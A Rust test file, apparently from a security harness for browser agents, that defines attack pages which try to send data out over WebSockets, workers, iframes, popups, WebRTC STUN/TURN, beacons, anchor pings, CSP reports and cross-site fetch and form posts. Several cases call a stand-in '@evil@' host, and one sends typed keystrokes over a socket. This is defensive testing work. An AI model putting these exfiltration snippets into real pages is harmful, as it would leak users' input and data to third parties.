//! Live sockets, WebRTC, reports and cross-site beacons (issue: live channels).

use serde_json::json;

use crate::attacks::case::{Case, Harm, Move, click, fill, look, until};

pub fn cases() -> Vec<Case> {
    [sockets(), beside()].concat()
}

fn sockets() -> Vec<Case> {
    let case = |variant: &str, page: &str| {
        Case::new(&format!("LIVE/{variant}"), "a frame of a WebSocket leaves a mark", page).moves([
            until("ready"),
            click("Go"),
            until("tried"),
            look(),
        ])
    };
    let old = "const s=new WebSocket('ws://@shop-host@/ws');s.onmessage=()=>said('ready')";
    vec![
        case("old-socket", &format!("<button id=go>Go</button><script>{old};on('go','click',()=>{{s.send('sink delete');said('tried')}})</script>")),
        case("old-socket-json", &format!("<button id=go>Go</button><script>{old};on('go','click',()=>{{s.send(JSON.stringify({{sink:'order'}}));said('tried')}})</script>")),
        case("old-socket-timer", &format!("<button id=go>Go</button><script>{old};on('go','click',()=>setTimeout(()=>{{s.send('sink late');said('tried')}},1000))</script>")),
        case("binary", &format!("<button id=go>Go</button><script>{old};on('go','click',()=>{{s.send(new Blob(['sink']));said('tried')}})</script>")),
        case("new-socket", "<button id=go>Go</button><script>said('ready');on('go','click',()=>{let s=new WebSocket('ws://@shop-host@/ws');s.onopen=()=>{s.send('sink new');said('tried')};s.onerror=s.onclose=()=>said('tried')})</script>"),
        case("cross-site-socket", "<button id=go>Go</button><script>said('ready');on('go','click',()=>{let s=new WebSocket('ws://@cdn-host@/ws');s.onopen=()=>{s.send('sink new');said('tried')};s.onerror=s.onclose=()=>said('tried')})</script>"),
        case("worker-socket", "<button id=go>Go</button><script>const w=new Worker('/w.js');w.onmessage=e=>said(e.data);on('go','click',()=>w.postMessage(1))</script>")
            .page("/w.js", "const s=new WebSocket('ws://@shop-host@/ws');s.onmessage=()=>postMessage('ready');onmessage=()=>{s.send('sink worker');postMessage('tried')}"),
        case("frame-socket", "<iframe src=@cdn@/inner></iframe><button id=go>Go</button><script>onmessage=e=>said(e.data);on('go','click',()=>frames[0].postMessage(1,'*'))</script>")
            .page("/inner", "<script>const s=new WebSocket('ws://@cdn-host@/ws');s.onmessage=()=>parent.postMessage('ready','*');onmessage=()=>{s.send('sink frame');parent.postMessage('tried','*')}</script>"),
        case("stream", "<button id=go>Go</button><script>const s=new WebSocketStream('ws://@shop-host@/ws');let w;s.opened.then(o=>{w=o.writable.getWriter();said('ready')});on('go','click',()=>{w.write('sink stream');said('tried')})</script>"),
        case("send-and-close", &format!("<button id=go>Go</button><script>{old};on('go','click',()=>{{s.send('sink');s.close();said('tried')}})</script>")),
        Case::new("LIVE/typed", "keys are sent over a WebSocket", &format!("<input id=f aria-label=Field><script>{old};on('f','input',()=>{{s.send('sink '+f.value);said('tried')}})</script>"))
            .moves([until("ready"), fill("Field", "x"), until("tried"), look()]),
        Case::new("LIVE/close-tab", "a tab is closed with a frame on hold", &format!("<button id=go>Go</button><script>{old};on('go','click',()=>{{s.send('sink');said('tried')}})</script>"))
            .moves([until("ready"), click("Go"), until("tried"), Move::new("tab", json!({"action": "close"}))]),
        Case::new("LIVE/close-tab-later", "a tab is closed with a frame on hold that a timer sent", &format!("<button id=go>Go</button><script>{old};on('go','click',()=>setTimeout(()=>{{s.send('sink');said('tried')}},1500))</script>"))
            .moves([until("ready"), click("Go"), until("tried"), Move::new("tab", json!({"action": "close"}))]),
        Case::new("LIVE/close-on-hide", "a page sends a frame while its tab is closed", &format!("<button id=go>Go</button><script>{old};on('go','click',()=>said('tried'));on(window,'pagehide',()=>s.send('sink'))</script>"))
            .moves([until("ready"), click("Go"), until("tried"), Move::new("tab", json!({"action": "close"}))]),
        Case::new("LIVE/popup-closes", "a popup sends a frame and closes itself", "<button id=go>Go</button><script>said('ready');on('go','click',()=>{open('/popup');said('tried')})</script>")
            .page("/popup", &format!("<script>{old};s.onmessage=()=>{{s.send('sink popup');close()}}</script>"))
            .moves([until("ready"), click("Go"), until("tried"), look(), Move::new("wait", json!({"ms": 1000})), look()]),
        Case::new("LIVE/popups-too-many", "popups that are closed at once send frames", "<button id=go>Go</button><script>said('ready');on('go','click',()=>{for(let i=0;i<40;i++)open('/popup?'+i);said('tried')})</script>")
            .page("/popup", &format!("<script>{old};s.onopen=()=>s.send('sink popup')</script>"))
            .moves([until("ready"), click("Go"), until("tried"), Move::new("wait", json!({"ms": 1000})), look()]),
        Case::new("LIVE/leave", "the page is left with a frame on hold", &format!("<button id=go>Go</button><script>{old};on('go','click',()=>{{s.send('sink');said('tried');location='/next'}})</script>"))
            .page("/next", "<p>next").moves([until("ready"), click("Go"), look()]),
    ]
}

fn beside() -> Vec<Case> {
    let case = |variant: &str, page: &str, harm: &[Harm]| {
        Case::new(&format!("LIVE/{variant}"), "data leaves beside ordinary requests", page)
            .moves([click("Go"), until("tried"), Move::new("wait", json!({"ms": 500})), look()])
            .harm(harm)
    };
    let rtc = |urls: &str| {
        format!(
            "<button id=go>Go</button><script>on('go','click',()=>{{let p=new RTCPeerConnection({{iceServers:[{{urls:'{urls}',username:'leak',credential:'x'}}]}});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o)).then(()=>said('tried'))}})</script>"
        )
    };
    let evil = [Harm::Reaches("evil")];
    vec![
        case("stun", &rtc("stun:127.0.0.1:@port@"), &[Harm::BesideHttp]),
        case("turn-udp", &rtc("turn:127.0.0.1:@port@?transport=udp"), &[Harm::BesideHttp]),
        case("turn-tcp", &rtc("turn:127.0.0.1:@port@?transport=tcp"), &[Harm::BesideHttp]),
        case(
            "cross-site-beacon",
            "<button id=go>Go</button><script>on('go','click',()=>{navigator.sendBeacon('@evil@/b','data');said('tried')})</script>",
            &evil,
        ),
        case(
            "cross-site-ping",
            "<a id=go href=#x ping=@evil@/p>Go</a><script>on('go','click',()=>said('tried'))</script>",
            &evil,
        ),
        case(
            "csp-report",
            "<meta http-equiv=Content-Security-Policy content=\"img-src 'self'; report-uri @evil@/r\"><button id=go>Go</button><script>on('go','click',()=>{new Image().src='http://cdn.test/x';said('tried')})</script>",
            &evil,
        ),
        case(
            "cross-site-post",
            "<button id=go>Go</button><script>on('go','click',()=>{fetch('@evil@/p',{method:'POST',mode:'no-cors',body:'x'});said('tried')})</script>",
            &evil,
        ),
        case(
            "cross-site-form",
            "<iframe name=w></iframe><form id=f method=post action=@evil@/p target=w></form><button id=go>Go</button><script>on('go','click',()=>{f.submit();said('tried')})</script>",
            &evil,
        ),
    ]
}
